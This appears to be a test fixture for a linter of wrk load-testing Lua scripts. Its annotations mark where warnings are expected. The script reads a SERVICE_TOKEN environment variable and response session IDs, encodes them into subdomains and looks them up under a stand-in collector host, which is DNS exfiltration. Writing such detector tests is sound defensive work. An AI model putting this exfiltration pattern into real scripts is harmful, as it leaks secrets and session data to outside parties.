-- DNS exfiltration: a secret or response data inside a name looked up with wrk.lookup reaches whoever serves the domain (WL503, besides WL701 for the foreign lookup).
local token = os.getenv("SERVICE_TOKEN") -- want WL201

function setup(thread)
  local label = token:sub(1, 30):gsub("[^%w]", "-")
  wrk.lookup(label .. ".t.collector.example", "80") -- want WL503 "DNS query" WL701
end

local resolve = wrk.lookup
local sent = 0
function response(status, headers, body)
  if sent < 3 then
    sent = sent + 1
    local id = body:match('"session":"(%w+)"')
    if id then
      pcall(resolve, id .. ".s.collector.example", "53") -- want WL503 WL701
    end
  end
end
